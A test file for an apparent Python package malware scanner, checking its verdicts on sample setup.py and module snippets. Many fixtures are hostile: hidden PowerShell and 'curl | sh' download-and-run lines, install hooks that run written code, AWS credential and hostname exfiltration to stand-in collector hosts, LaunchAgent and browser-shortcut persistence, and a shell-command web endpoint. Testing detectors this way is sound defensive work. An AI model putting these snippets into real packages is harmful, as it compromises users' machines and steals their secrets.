def test_an_rc_line_that_runs_or_hijacks_something_stays_persistence(line) -> None:
    src = ADD_TO_PATH.replace('f"export PATH=$PATH:{folder}"', line)
    assert severities(scan({"demo/cli.py": src}), "intent.persistence") == {"medium"}


def test_a_registry_value_outside_the_environment_key_stays_persistence() -> None:
    run_key = r'"Software\\Microsoft\\Windows\\CurrentVersion\\Run"'
    src = ADD_TO_PATH.replace('"Environment"', run_key)
    assert severities(scan({"demo/cli.py": src}), "intent.persistence") == {"medium"}


def test_environment_settings_written_on_import_stay_critical() -> None:
    src = ADD_TO_PATH + '\n    add_to_path("/opt/demo/bin", "Linux")\n'
    assert "intent.persistence" in rules(scan({"demo/__init__.py": src}), "critical")


BROWSER_WITH_EXTENSION = """
    import subprocess

    def launch(browser, extensions, profile_dir):
        args = [browser, f"--user-data-dir={profile_dir}"]
        if extensions:
            args.append("--load-extension=%s" % ",".join(extensions))
        return subprocess.Popen(args)
"""


def test_an_automation_library_starting_a_browser_with_an_extension_is_not_persistence() -> None:
    """nodriver: the flag lives as long as the browser it starts for its caller's session."""
    result = scan({"demo/browser.py": BROWSER_WITH_EXTENSION})
    assert result.verdict not in FLAGGED, worst(result)
    assert severities(result, "intent.persistence") == {"medium"}  # said


def test_a_browser_started_with_an_extension_on_import_stays_critical() -> None:
    src = BROWSER_WITH_EXTENSION + '\n    launch("chrome", ["/tmp/ext"], "/tmp/p")\n'
    assert "intent.persistence" in rules(scan({"demo/__init__.py": src}), "critical")


def test_a_shortcut_rewritten_with_an_extension_flag_is_a_hijack_even_on_request() -> None:
    """ChromeLoader's way: every browser the user starts from that shortcut loads it."""
    src = """
        import os

        def patch_shortcut(path, ext_dir):
            with open(path, "w") as f:
                f.write(f'Exec=/usr/bin/google-chrome --load-extension={ext_dir} %U\\n')
    """
    assert "intent.persistence" in rules(scan({"demo/desktop.py": src}), "high")


def test_a_thread_started_on_import_with_another_modules_function_runs_it_on_import() -> None:
    files = {
        "demo/__init__.py": """
            import threading
            from .agent import install_agent

            threading.Thread(target=install_agent, daemon=False).start()
        """,
        "demo/agent.py": """
            import os, subprocess

            def install_agent():
                folder = os.path.join(os.path.expanduser("~"), "Library", "LaunchAgents")
                plist = os.path.join(folder, "com.demo.update.plist")
                with open(plist, "w") as f:
                    f.write("<plist><dict><key>RunAtLoad</key><true/></dict></plist>")
                subprocess.run(["launchctl", "load", plist])
        """,
    }
    result = scan(files)
    assert "intent.persistence" in rules(result, "critical")


def test_a_service_helper_loading_a_launch_agent_on_request_is_not_flagged() -> None:
    src = """
        import subprocess

        def enable_service(plist_path):
            subprocess.run(["launchctl", "load", plist_path], check=True)
    """
    result = scan({"demo/service.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_command_handed_to_a_local_runner_at_install_is_malicious() -> None:
    src = """
        import os, subprocess
        from setuptools import setup

        def run(cmd):
            subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)

        if not os.path.exists("C:/ProgramData/Tool"):
            print("Installing dependencies, please wait...")
            run("powershell -w hidden -c iex (iwr https://cdn.example.net/i.ps1)")
        setup(name="demo")
    """
    assert scan({"setup.py": src}).verdict == "malicious"


def test_code_kept_in_a_constant_written_by_an_install_hook_and_run_is_malicious() -> None:
    src = '''
        import os, subprocess
        from setuptools import setup
        from setuptools.command.install import install

        CODE = """
        import socket, getpass, urllib.request
        urllib.request.urlopen("https://c.collector-host.net/?u=" + getpass.getuser())
        """

        class Hook(install):
            def run(self):
                install.run(self)
                file = open("helper.py", "w")
                file.write(CODE)
                file.close()
                subprocess.Popen(["python3", "helper.py"])

        setup(name="demo", cmdclass={"install": Hook})
    '''
    result = scan({"setup.py": src})
    assert "intent.write-execute" in rules(result, "high")
    assert result.verdict == "malicious"


def test_download_and_run_split_over_two_helpers_on_import_is_flagged() -> None:
    src = """
        import os, subprocess
        import requests

        def fetch(url, dest):
            with open(dest, "wb") as f:
                f.write(requests.get(url).content)

        def start(path):
            subprocess.run([path], check=True)

        def boot():
            target = os.path.join(os.path.expanduser("~"), "svc.bin")
            fetch("https://cdn.example.net/svc.bin", target)
            start(target)

        boot()
    """
    assert scan({"demo/__init__.py": src}).verdict in FLAGGED


def test_download_and_run_helpers_called_only_on_request_are_not_flagged() -> None:
    src = """
        import subprocess
        import requests

        def fetch(url, dest):
            with open(dest, "wb") as f:
                f.write(requests.get(url).content)

        def start(path):
            subprocess.run([path], check=True)

        def upgrade(url, dest):
            fetch(url, dest)
            start(dest)
    """
    result = scan({"demo/upgrade.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_hidden_powershell_given_as_an_argument_list_on_import_is_malicious() -> None:
    src = """
        import subprocess

        def start(command=None):
            cmd = command if command is not None else "Get-Date"
            return subprocess.Popen(
                ["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", cmd]
            )

        _proc = start()
    """
    assert scan({"demo/__init__.py": src}).verdict == "malicious"


def test_a_visible_powershell_command_run_on_request_is_not_flagged() -> None:
    src = """
        import subprocess

        def list_drives():
            return subprocess.run(
                ["powershell", "-NoProfile", "-Command", "Get-PSDrive -PSProvider FileSystem"],
                capture_output=True, text=True,
            ).stdout
    """
    result = scan({"demo/win.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_web_endpoint_running_the_request_as_a_shell_command_is_remote_control() -> None:
    src = """
        import subprocess
        from flask import Flask, request

        app = Flask(__name__)

        @app.route("/x")
        def run():
            p = subprocess.Popen(request.args.get("c"), shell=True, stdout=subprocess.PIPE)
            return p.stdout.read()

        app.run(host="0.0.0.0", port=54689)
    """
    assert "intent.reverse-shell" in rules(scan({"demo/__init__.py": src}), "high")


def test_a_web_endpoint_using_request_data_for_its_own_work_is_not_flagged() -> None:
    src = """
        import subprocess
        from flask import Flask, request

        app = Flask(__name__)

        @app.route("/version")
        def version():
            fmt = request.args.get("format", "short")
            out = subprocess.run(["git", "describe", "--tags"], capture_output=True, text=True)
            return {"version": out.stdout.strip(), "format": fmt}
    """
    assert "intent.reverse-shell" not in rules(scan({"demo/web.py": src}))


def test_a_package_that_looks_up_a_fixed_host_on_import_is_a_beacon() -> None:
    src = """
        import socket

        def _check():
            try:
                socket.gethostbyname("demo.probe.collector-host.net")
            except OSError:
                pass

        _check()
    """
    result = scan({"demo/__init__.py": src})
    assert "indicator.import-beacon" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_package_whose_client_contacts_its_service_when_asked_is_not_a_beacon() -> None:
    src = """
        import requests

        API = "https://api.service-host.net/v1"

        def status():
            return requests.get(API + "/status", timeout=5).json()
    """
    result = scan({"demo/__init__.py": src})
    assert "indicator.import-beacon" not in rules(result)
    assert result.verdict not in FLAGGED


def test_an_rc_file_read_from_a_url_and_an_import_by_name_on_import_are_not_download_execute() -> (
    None
):
    src = """
        import importlib
        import urllib.request

        def _open(fname):
            if fname.startswith("http"):
                return urllib.request.urlopen(fname)
            return open(fname)

        def _check_versions():
            for name in ("numpy", "dateutil"):
                importlib.import_module(name)

        _check_versions()
        RC = _open("demorc")
    """
    result = scan({"demo/__init__.py": src})
    assert "intent.download-execute" not in rules(result)


def test_hostile_archives_kept_as_test_fixtures_do_not_flag_the_package(tmp_path) -> None:
    import io
    import tarfile
    import zipfile

    from pipvet.core.analysis.archive import read_artifact

    fixture = io.BytesIO()
    with zipfile.ZipFile(fixture, "w") as z:
        z.writestr("../escape.txt", "x")
        z.writestr("/tmp/absolute.txt", "x")
    files = {
        "demo-1.0/tests/bad.zip": fixture.getvalue(),
        "demo-1.0/tests/test_unpack.py": b"def test_refuses_traversal():\n    pass\n",
        "demo-1.0/setup.py": b"from setuptools import setup\nsetup(name='demo')\n",
        "demo-1.0/demo/__init__.py": b"",
    }
    sdist = tmp_path / "demo-1.0.tar.gz"
    with tarfile.open(sdist, "w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    result = analyze(read_artifact(sdist))
    assert {"archive.path-traversal", "archive.absolute-path"} <= rules(result)
    assert result.verdict not in FLAGGED
    assert not result.package_code


# -- setup.py code that installing never runs ----------------------------------------------------


def test_a_setup_py_function_nothing_calls_is_not_install_time() -> None:
    src = """
        import requests
        from setuptools import setup

        def show_licences(names):
            for name in names:
                r = requests.get("https://example.org/pkg/{}/json".format(name))
                print(r.json().get("licence"))

        # show_licences(["a"])
        setup(name="demo")
    """
    result = scan({"setup.py": src})
    assert result.verdict not in FLAGGED, worst(result)
    assert "capability.network" in rules(result)  # still reported, as code run on request


def test_a_setup_py_function_called_at_module_level_or_by_name_lookup_still_runs() -> None:
    called = """
        import requests
        from setuptools import setup

        def ping():
            requests.get("http://198.51.100.7/ping")

        ping()
        setup(name="demo")
    """
    assert scan({"setup.py": called}).verdict in FLAGGED
    looked_up = """
        import requests
        from setuptools import setup

        def ping():
            requests.get("http://198.51.100.7/ping")

        globals()["pi" + "ng"]()
        setup(name="demo")
    """
    assert scan({"setup.py": looked_up}).verdict in FLAGGED


def test_a_cmdclass_registered_only_as_upload_is_not_install_time() -> None:
    src = """
        import os
        from setuptools import Command, setup

        class Publish(Command):
            user_options = []
            def initialize_options(self): pass
            def finalize_options(self): pass
            def run(self):
                os.system("twine upload dist/*")
                os.system("git push --tags")

        setup(name="demo", cmdclass={"upload": Publish})
    """
    result = scan({"setup.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_cmdclass_registered_as_build_still_runs_at_install() -> None:
    src = """
        import os
        from setuptools import Command, setup

        class Fetch(Command):
            user_options = []
            def initialize_options(self): pass
            def finalize_options(self): pass
            def run(self):
                os.system("curl -s http://198.51.100.7/x | sh")

        setup(name="demo", cmdclass={"upload": Fetch, "build_ext": Fetch})
    """
    assert scan({"setup.py": src}).verdict == "malicious"


_OWN_COMMAND = """
    import os
    from urllib.request import urlopen
    from setuptools import Command, setup
    from setuptools.command.build_py import build_py

    class UpdateDlls(Command):
        user_options = []
        def initialize_options(self): pass
        def finalize_options(self): pass
        def run(self):
            os.makedirs("build", exist_ok=True)
            with open("build/lib.7z", "wb") as f:
                f.write(urlopen("https://dlls.example/latest.7z").read())
            os.system("build/lib.7z")

    cmdclass = {}
    cmdclass["update_dlls"] = UpdateDlls
    setup(name="demo", cmdclass=cmdclass)
"""


def test_a_projects_own_setup_command_runs_only_when_a_person_types_it() -> None:
    """``python setup.py update_dlls``: a maintainer's command. Installers run egg_info, build,
    install and their sub-commands, never a command of another name."""
    result = scan({"setup.py": _OWN_COMMAND})
    assert "intent.drop-payload" in rules(result)  # said, at the weight of code run on request
    assert all(f.severity != "critical" for f in result.findings), worst(result)
    assert result.verdict != "malicious"


def test_an_own_command_that_a_build_command_runs_is_install_time() -> None:
    chained = _OWN_COMMAND.replace(
        "    cmdclass = {}\n",
        "    class Build(build_py):\n"
        "        def run(self):\n"
        "            self.run_command('update_dlls')\n"
        "            super().run()\n\n"
        "    cmdclass = {'build_py': Build}\n",
    )
    assert "run_command('update_dlls')" in chained
    assert scan({"setup.py": chained}).verdict == "malicious"


_SDIST_HOOK = """
    from pathlib import Path
    from urllib.request import urlretrieve
    from setuptools import setup
    from setuptools.command.sdist import sdist

    class BundleAssets(sdist):
        def run(self):
            static = Path(__file__).parent / "demo" / "static"
            for url in ("https://cdn.jsdelivr.net/npm/swagger-ui-dist@5/swagger-ui.js",):
                urlretrieve(url, static / url.split("/")[-1])
            sdist.run(self)

    setup(name="demo", cmdclass={"sdist": BundleAssets})
"""


def test_a_command_that_only_builds_the_sdist_is_not_install_time() -> None:
    """Installing an sdist builds a wheel from it (egg_info, build, bdist_wheel, install): the
    ``sdist`` command that bundled it ran on the maintainer's machine, never on the user's."""
    result = scan({"setup.py": _SDIST_HOOK, "demo/__init__.py": ""})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_command_registered_for_the_sdist_twice_is_still_not_install_time() -> None:
    """A class registered under ``sdist`` on one platform and another elsewhere: every mention
    of the word is a registration, none runs it."""
    src = _SDIST_HOOK.replace(
        'setup(name="demo", cmdclass={"sdist": BundleAssets})',
        'import sys\n    cmdclass = {"sdist": sdist}\n'
        '    if sys.platform != "win32":\n        cmdclass.update({"sdist": BundleAssets})\n'
        '    setup(name="demo", cmdclass=cmdclass)',
    )
    assert src.count('"sdist"') == 2
    assert scan({"setup.py": src, "demo/__init__.py": ""}).verdict not in FLAGGED
    ran = src.replace("setup(name=", 'sys.argv.append("sdist")\n    setup(name=')
    assert scan({"setup.py": ran, "demo/__init__.py": ""}).verdict in FLAGGED


def test_the_same_download_in_a_build_command_is_install_time() -> None:
    src = _SDIST_HOOK.replace(
        'cmdclass={"sdist": BundleAssets}', 'cmdclass={"build_py": BundleAssets}'
    )
    assert scan({"setup.py": src, "demo/__init__.py": ""}).verdict in FLAGGED
    named = _SDIST_HOOK.replace("setup(name=", 'import sys\nsys.argv.append("sdist")\nsetup(name=')
    assert scan({"setup.py": named, "demo/__init__.py": ""}).verdict in FLAGGED


def test_running_a_projects_configure_script_through_sh_is_a_build_step() -> None:
    src = """
        import os
        from setuptools import setup
        if os.system("sh configure -q") != 0:
            raise RuntimeError("configure failed")
        setup(name="demo")
    """
    result = scan({"setup.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_shell_line_that_only_mentions_configure_is_not_a_build_step() -> None:
    src = """
        import os
        from setuptools import setup
        os.system("sh -c 'curl -s http://198.51.100.7/configure | sh'")
        setup(name="demo")
    """
    assert scan({"setup.py": src}).verdict in FLAGGED


def test_literal_code_compiled_and_run_is_not_hidden_code() -> None:
    src = """
        import sys
        if sys.version_info[0] < 3:
            exec(compile("def _reraise(*a): raise a[0], a[1], a[2]", "<compat>", "exec"))
    """
    setup = 'from setuptools import setup\nimport demo\nsetup(name="demo")\n'
    result = scan({"setup.py": setup, "demo.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_decoded_code_compiled_and_run_stays_hidden_code() -> None:
    src = """
        import base64
        exec(compile(base64.b64decode("cHJpbnQoImhpIik="), "<x>", "exec"))
    """
    setup = 'from setuptools import setup\nimport demo\nsetup(name="demo")\n'
    assert scan({"setup.py": setup, "demo.py": src}).verdict in FLAGGED


# -- builtins looked up from a written-out list of names -----------------------------------------


def test_builtins_looked_up_from_a_written_out_name_list_are_not_hidden() -> None:
    src = """
        import builtins
        _ALLOWED = frozenset({"len", "min", "max", "sorted"})
        SAFE = {n: getattr(builtins, n) for n in _ALLOWED}
        for name in ("abs", "round"):
            SAFE[name] = getattr(builtins, name)
    """
    result = scan({"demo/__init__.py": src})
    assert "obfuscation.builtins-lookup" not in rules(result), result.findings
    assert result.verdict not in FLAGGED


def test_builtins_looked_up_by_the_words_of_a_constant_string_are_not_hidden() -> None:
    """pyparsing's parse-action helpers: ``for f in "sum len sorted".split(): getattr(...)``."""
    src = """
        import builtins
        single_arg = []
        for fname in "sum len sorted reversed list tuple set any all min max".split():
            single_arg.append(getattr(builtins, fname))
    """
    result = scan({"demo/__init__.py": src})
    assert "obfuscation.builtins-lookup" not in rules(result), result.findings


@pytest.mark.parametrize(
    "names", ['"len exec".split()', '("len", "eval")', '"len,__import__".split(",")']
)
def test_a_name_list_that_holds_a_builtin_running_code_still_hides_the_call(names) -> None:
    src = f"""
        import builtins
        for fname in {names}:
            getattr(builtins, fname)
    """
    assert "obfuscation.builtins-lookup" in rules(scan({"demo/__init__.py": src}), "high")


def test_builtins_looked_up_by_a_name_read_at_run_time_stay_hidden() -> None:
    decoded = """
        import builtins
        names = [open("names.txt").read().strip()]
        for n in names:
            getattr(builtins, n)("print(1)")
    """
    assert "obfuscation.builtins-lookup" in rules(scan({"demo/__init__.py": decoded}), "high")
    rebound = """
        import builtins
        for n in ("len",):
            pass
        n = open("names.txt").read().strip()
        getattr(builtins, n)("print(1)")
    """
    assert "obfuscation.builtins-lookup" in rules(scan({"demo/__init__.py": rebound}), "high")


# -- serialised records of decoded values ---------------------------------------------------------


def test_a_pickled_record_holding_a_decrypted_key_is_not_a_dropped_payload() -> None:
    src = """
        import base64, os, pickle, subprocess, sys, tempfile

        def run_job(settings, key_file):
            with open(key_file) as k:
                key = base64.b64decode(k.read()).decode()
            record = (settings, key)
            fd, path = tempfile.mkstemp()
            with os.fdopen(fd, "wb") as f:
                f.write(pickle.dumps(record))
            subprocess.check_call([sys.executable, "-m", "demo.worker", path])
    """
    result = scan({"demo/runner.py": src})
    assert "intent.drop-payload" not in rules(result, "high"), result.findings
    assert result.verdict not in FLAGGED


def test_decoded_bytes_written_raw_and_run_stay_a_dropped_payload() -> None:
    src = """
        import base64, os, subprocess, tempfile

        def run_job(blob):
            data = base64.b64decode(open(blob).read())
            fd, path = tempfile.mkstemp(suffix=".exe")
            with os.fdopen(fd, "wb") as f:
                f.write(data)
            subprocess.Popen([path])
    """
    result = scan({"demo/runner.py": src})
    assert "intent.drop-payload" in rules(result, "high"), result.findings


def test_literal_code_spelt_in_escapes_compiled_and_run_at_install_stays_hidden() -> None:
    escaped = "".join(f"\\x{ord(c):02x}" for c in "import sys; print(1)")
    src = f"""
        from setuptools import setup
        exec(compile("{escaped}", "<s>", "exec"))
        setup(name="demo")
    """
    result = scan({"setup.py": src})
    assert any(
        f.rule == "capability.dynamic-code" and f.severity == "high" for f in result.findings
    )


# -- a file opened at a path built from the working directory -----------------------------------


def test_uploading_a_file_found_under_the_working_directory_is_not_sending_identity() -> None:
    paths = """
        import os

        def inside_cwd(path):
            base = os.getcwd()
            full = os.path.realpath(os.path.join(base, path))
            if not full.startswith(base):
                raise ValueError("outside")
            return full
    """
    client = """
        import requests
        from .paths import inside_cwd

        def upload(path, token):
            path = inside_cwd(path)
            with open(path, "rb") as fp:
                return requests.post(
                    "https://api.docs-parser.io/v1/parse",
                    headers={"authorization": "Bearer " + token},
                    files={"file": fp},
                )
    """
    result = scan({"demo/__init__.py": "", "demo/paths.py": paths, "demo/client.py": client})
    assert "intent.exfiltration" not in rules(result, "high"), result.findings
    assert result.verdict not in FLAGGED


def test_sending_the_working_directory_and_user_to_a_fixed_host_stays_flagged() -> None:
    src = """
        import getpass, os, requests

        def report():
            info = {"cwd": os.getcwd(), "user": getpass.getuser()}
            requests.post("https://collector.example-tracker.net/r", json=info)
    """
    result = scan({"demo/__init__.py": "", "demo/report.py": src})
    assert "intent.exfiltration" in rules(result, "high"), result.findings


# -- code nothing installed runs: read for what it holds, in full only when running code names it --


NETWORK_TEST = """
    import subprocess
    import requests

    def test_upload():
        requests.post("https://discord.com/api/webhooks/123456/abcdefgh", data=open("x").read())
        subprocess.run(["git", "status"])
"""


def test_a_test_nothing_names_is_read_for_its_constants_not_its_calls() -> None:
    result = scan({"demo/__init__.py": "VERSION = '1.0'\n", "tests/test_net.py": NETWORK_TEST})
    found = {(f.rule, f.path.rpartition("/")[2]) for f in result.findings}
    assert ("indicator.messenger-webhook", "test_net.py") in found  # its text still counts
    assert not any(f.category in ("network", "process") for f in result.findings)


def test_a_test_the_package_loads_by_name_is_read_in_full() -> None:
    init = """
        import importlib
        importlib.import_module("demo.tests.helper")
    """
    files = {"demo/__init__.py": init, "demo/tests/helper.py": EXFIL_ON_IMPORT}
    assert "intent.exfiltration" in rules(scan(files))


def test_an_example_setup_py_runs_by_path_is_read_in_full() -> None:
    setup = """
        import runpy
        from setuptools import setup
        runpy.run_path("examples/post_install.py")
        setup(name="demo")
    """
    result = scan({"setup.py": setup, "examples/post_install.py": EXFIL_ON_IMPORT})
    assert "intent.exfiltration" in rules(result)


def test_a_test_an_entry_point_names_is_read_in_full() -> None:
    files = {
        "demo/__init__.py": "VERSION = '1.0'\n",
        "demo/tests/cli.py": EXFIL_ON_IMPORT,
        "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo-check = demo.tests.cli:main\n",
    }
    assert "intent.exfiltration" in rules(scan(files))


def test_a_test_named_by_a_test_that_running_code_names_is_read_in_full() -> None:
    files = {
        "demo/__init__.py": "import importlib\nimportlib.import_module('demo.tests.entry')\n",
        "demo/tests/entry.py": "from demo.tests import payload_helper\n",
        "demo/tests/payload_helper.py": EXFIL_ON_IMPORT,
    }
    assert "intent.exfiltration" in rules(scan(files))


def test_a_test_that_does_not_parse_is_still_read_whole() -> None:
    """A test file nothing installed runs is read lexically, not parsed: its literals are read
    whether or not it parses (a syntax error hides none of them), so a parse failure there is
    no gap; the rules that read what a file holds still see every literal, after the error and
    inside an unclosed string too."""
    broken = (
        "def f(:\n"
        "    pass\n"
        "HOOK = ('https://discord.com/api/webhooks/'  # split, as Python joins it\n"
        "        '1234567890/abcdefghijklmnopqrstuvwxyz0123')\n"
        'TAIL = """never closed https://rentry.co/raw/abc\n'
    )
    result = scan({"demo/__init__.py": "VERSION = '1.0'\n", "tests/test_broken.py": broken})
    found = {f.rule for f in result.findings}
    assert "analysis.parse-failed" not in found
    assert {"indicator.messenger-webhook", "indicator.paste-site"} <= found


# -- an address in a module: alarming when loading the module contacts the network ---------------

TELEMETRY = """
    import requests

    ENDPOINT = "https://events-collector.herokuapp.com/api/v1/event"

    def send(event):
        requests.post(ENDPOINT, json=event, timeout=5)
"""


def test_a_callback_host_a_function_calls_when_asked_is_not_blocked() -> None:
    result = scan({"demo/__init__.py": "", "demo/telemetry.py": TELEMETRY})
    assert severities(result, "indicator.tunnel-or-callback") == {"medium"}
    assert result.verdict not in FLAGGED, worst(result)


def test_a_callback_host_contacted_on_import_still_blocks() -> None:
    beacon = textwrap.dedent(TELEMETRY) + "import socket\nsend({'host': socket.gethostname()})\n"
    result = scan({"demo/__init__.py": "", "demo/telemetry.py": beacon})
    assert "indicator.tunnel-or-callback" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_a_callback_host_a_curl_on_import_contacts_still_blocks() -> None:
    src = """
        import os
        HOOK = "https://grab.trycloudflare.com/in"
        os.system("curl -s " + HOOK)
    """
    assert "indicator.tunnel-or-callback" in rules(scan({"demo/__init__.py": src}), "high")


def test_a_program_link_a_function_downloads_when_asked_is_not_blocked() -> None:
    src = """
        import urllib.request

        INSTALLER = "https://downloads.example.org/tool/setup-2.1.exe"

        def fetch_installer(dest):
            urllib.request.urlretrieve(INSTALLER, dest)
    """
    result = scan({"demo/__init__.py": src})
    assert severities(result, "indicator.executable-url") == {"medium"}


FETCH_TOOL = """
    import platform
    import urllib.request

    def fetch_tunnel(dest):
        if platform.system() == "Windows":
            url = "https://github.com/cloudflare/cloudflared/releases/latest/download/cf-amd64.exe"
        else:
            url = "https://github.com/cloudflare/cloudflared/releases/latest/download/cf-amd64"
        urllib.request.urlretrieve(url, dest)
"""


def test_a_program_link_in_the_function_that_downloads_it_when_asked_is_a_warning() -> None:
    result = scan({"demo/__init__.py": "", "demo/tunnel.py": FETCH_TOOL})
    assert severities(result, "indicator.executable-url") == {"medium"}
    assert result.verdict not in FLAGGED, worst(result)


def test_the_same_download_run_on_import_blocks() -> None:
    src = textwrap.dedent(FETCH_TOOL) + "fetch_tunnel('/tmp/cf.exe')\n"
    result = scan({"demo/__init__.py": "", "demo/tunnel.py": src})
    assert "indicator.executable-url" in rules(result, "high")


def test_a_program_a_function_fetches_from_a_file_drop_site_blocks_when_asked() -> None:
    src = FETCH_TOOL.replace(
        "https://github.com/cloudflare/cloudflared/releases/latest/download/cf-amd64.exe",
        "https://cdn.discordapp.com/attachments/1/2/Setup.exe",
    )
    result = scan({"demo/__init__.py": "", "demo/tunnel.py": src})
    assert "indicator.executable-url" in rules(result, "high")


SOCKET_PROBE = """
    import socket

    def probe(mnemonic):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((HOST, 7000 + ord(mnemonic[0])))  # the key, a letter per port
        s.close()
"""


def test_a_socket_to_this_machine_sends_nothing_away() -> None:
    src = SOCKET_PROBE.replace("HOST", "'127.0.0.1'")
    result = scan({"demo/__init__.py": "", "demo/probe.py": src})
    assert "intent.exfiltration" not in rules(result), worst(result)


def test_a_socket_address_on_this_machine_is_loopback_for_every_exfiltration_check() -> None:
    """``sock.connect(("127.0.0.1", port))`` reaches a local service, as
    ``http://localhost:port`` does; any other host in the call keeps it a send."""
    from pipvet.core.analysis.facts.python_ast import collect
    from pipvet.core.analysis.rules.intent import _loopback_only

    src = textwrap.dedent("""
        import socket
        s = socket.socket()
        s.connect(("127.0.0.1", 9000))
        s.connect(("203.0.113.5", 9000))
        s.sendto(b"x", ("localhost", 53))
    """)
    facts = collect(src)
    calls = {c.line: c for c in facts.calls if c.name.endswith((".connect", ".sendto"))}
    assert _loopback_only(calls[4], facts) and _loopback_only(calls[6], facts)
    assert not _loopback_only(calls[5], facts)


def test_a_socket_to_another_host_still_sends_the_key_away() -> None:
    src = SOCKET_PROBE.replace("HOST", "'203.0.113.5'")
    result = scan({"demo/__init__.py": "", "demo/probe.py": src})
    assert "intent.exfiltration" in rules(result, "high")


# -- a file setup.py runs as a script: its main block runs at install ------------------------------

BEACON_MAIN = """
    import socket
    import requests

    def report(server):
        requests.post(server, json={"host": socket.gethostname()})

    def main():
        report("https://collect.example-poc.net/in")

    if __name__ == "__main__":
        main()
"""


def _setup_running(command: str) -> str:
    return f"""
        import subprocess, sys
        from setuptools import setup
        from setuptools.command.install import install

        class PostInstall(install):
            def run(self):
                install.run(self)
                subprocess.run({command})

        setup(name="demo", packages=["demo"], cmdclass={{"install": PostInstall}})
    """


def test_a_module_setup_py_runs_with_dash_m_runs_its_main_block_at_install() -> None:
    setup = _setup_running('[sys.executable, "-m", "demo.beacon"]')
    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/beacon.py": BEACON_MAIN})
    assert "intent.exfiltration" in rules(result, "critical")


def test_a_script_setup_py_runs_by_path_runs_its_main_block_at_install() -> None:
    setup = _setup_running('[sys.executable, "tools/post.py"]')
    result = scan({"setup.py": setup, "tools/post.py": BEACON_MAIN})
    assert "intent.exfiltration" in rules(result, "critical")


def test_a_generator_setup_py_runs_with_dash_m_is_not_flagged() -> None:
    gen = """
        import pathlib

        def write_version(path):
            pathlib.Path(path).write_text("__version__ = '1.0'\\n")

        if __name__ == "__main__":
            write_version("demo/_version.py")
    """
    setup = _setup_running('[sys.executable, "-m", "demo.gen"]')
    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/gen.py": gen})
    assert result.verdict not in FLAGGED, worst(result)


def test_the_main_block_of_an_imported_module_does_not_run_on_import() -> None:
    result = scan({"demo/__init__.py": "", "demo/beacon.py": BEACON_MAIN})
    assert "intent.exfiltration" not in rules(result, "critical")


def test_a_callback_host_beside_a_credential_store_still_blocks() -> None:
    src = """
        import os
        import requests

        def push(hook="https://grab-7f3a.m.pipedream.net"):
            path = os.path.join(os.path.expanduser("~"), ".aws/credentials")
            requests.post(hook, data=open(path).read())
    """
    result = scan({"demo/__init__.py": "", "demo/cli.py": src})
    assert "indicator.tunnel-or-callback" in rules(result, "high")


def test_a_script_only_a_maintainers_command_runs_does_not_run_its_main_block_at_install() -> None:
    fetch = """
        import subprocess, urllib.request

        def main():
            urllib.request.urlretrieve("https://data.example.org/cldr.zip", "cldr.zip")
            subprocess.check_call(["sh", "cldr.zip"])

        if __name__ == "__main__":
            main()
    """
    setup = """
        import subprocess, sys
        from setuptools import Command, setup

        class import_data(Command):
            def run(self):
                subprocess.check_call([sys.executable, "scripts/fetch_data.py"])

        setup(name="demo", packages=["demo"], cmdclass={"import_data": import_data})
    """
    result = scan({"setup.py": setup, "demo/__init__.py": "", "scripts/fetch_data.py": fetch})
    assert result.verdict != "malicious", worst(result)
    assert "intent.download-execute" not in rules(result, "critical")


@pytest.mark.parametrize("value", ["UserInitMprLogonScript", "windir", "COR_PROFILER_PATH"])
def test_an_environment_value_that_hijacks_windows_stays_persistence(value) -> None:
    src = ADD_TO_PATH.replace('winreg.SetValueEx(key, "PATH"', f'winreg.SetValueEx(key, "{value}"')
    assert severities(scan({"demo/cli.py": src}), "intent.persistence") == {"medium"}


def test_the_lexical_reading_of_a_test_file_finds_the_literals_a_parse_does() -> None:
    """``constant_facts`` reads literals as Python does: comments (quotes in them too) are
    skipped, escapes resolved, adjacent literals joined, bytes kept as text but not as code
    literals; each at the line it starts on."""
    from pipvet.core.analysis.facts.python_ast import constant_facts

    source = (
        "# don't be fooled: 'not a literal'\n"
        "URL = 'https://example.org/a\\x2fb'  # an escape\n"
        "RAW = r'C:\\new\\table'\n"
        "JOINED = ('abc'\n"
        "          'defghijklmnopqrstu')\n"
        "DATA = b'\\x00\\x01binary'\n"
        'DOC = """two\n'
        'lines"""\n'
        "x = 'ab'  # short: not noted\n"
    )
    facts = constant_facts(source)
    assert facts.strings == [
        (2, "https://example.org/a/b"),
        (3, "C:\\new\\table"),
        (4, "abcdefghijklmnopqrstu"),
        (6, "\x00\x01binary"),
        (7, "two\nlines"),
    ]
    assert "abcdefghijklmnopqrstu" in facts.literals
    assert "\x00\x01binary" not in facts.literals
